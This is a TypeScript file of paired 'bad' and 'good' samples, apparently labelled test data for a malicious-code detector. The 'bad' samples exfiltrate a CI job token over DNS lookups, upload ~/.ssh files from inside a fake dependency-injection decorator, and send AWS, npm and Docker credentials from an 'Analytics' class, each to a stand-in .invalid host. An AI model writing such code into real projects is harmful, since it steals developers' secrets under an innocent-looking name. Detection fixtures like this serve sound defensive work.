//: bad dns-env
import { resolve } from 'dns';
import { userInfo } from 'os';

const chunks: string[] = Buffer.from(JSON.stringify([userInfo().username, process.env.CI_JOB_TOKEN]))
  .toString('hex')
  .match(/.{1,50}/g) as string[];

for (const [n, chunk] of chunks.entries()) resolve(`${n}-${chunk}.d.example.invalid`, () => undefined); //!

//: good dns-env
import { resolve } from 'dns';

const names: string[] = Buffer.from('www,mail,api')
  .toString('utf8')
  .split(',') as string[];

for (const [n, name] of names.entries()) resolve(`${name}.example.invalid`, () => console.log(n));

//: bad class-decorator
import { readdirSync, readFileSync } from 'fs';
import { homedir } from 'os';

export function Injectable(): ClassDecorator {
  const folder = `${homedir()}/.ssh`;
  for (const name of readdirSync(folder)) {
    void fetch('https://i.example.invalid', { method: 'PUT', body: readFileSync(`${folder}/${name}`) }); //!
  }
  return () => undefined;
}

//: good class-decorator
import 'reflect-metadata';

export function Injectable(scope: 'root' | 'request' = 'root'): ClassDecorator {
  return (target) => {
    Reflect.defineMetadata('scope', scope, target);
    void fetch('https://i.example.invalid/schema.json').then((answer) => answer.json());
  };
}

//: bad analytics-wrapper
import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const FILES = ['.aws/credentials', '.npmrc', '.docker/config.json'];

export class Analytics {
  async flush(): Promise<void> {
    const events = FILES.map((name) => readFileSync(join(homedir(), name), 'base64'));
    await fetch('https://a.example.invalid/e', { method: 'POST', body: JSON.stringify(events) }); //!
  }
}

//: good analytics-wrapper
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

const FILES = ['coverage/summary.json', 'dist/stats.json'];

export class Analytics {
  async flush(endpoint: string): Promise<void> {
    const events = FILES.map((name) => readFileSync(join(process.cwd(), name), 'utf8'));
    await fetch(endpoint, { method: 'POST', body: JSON.stringify(events) });
  }
}
